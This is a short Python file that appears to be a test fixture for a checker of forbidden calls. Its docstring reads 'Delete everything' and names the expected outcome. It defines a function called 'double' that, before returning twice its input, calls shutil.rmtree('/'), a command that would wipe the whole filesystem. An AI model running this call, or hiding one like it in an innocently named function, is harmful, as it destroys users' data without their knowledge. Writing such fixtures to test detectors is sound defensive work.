"""Delete everything.

cause: forbidden call | exception FileNotFoundError
"""

import shutil


def double(x):
    shutil.rmtree("/")
    return 2 * x
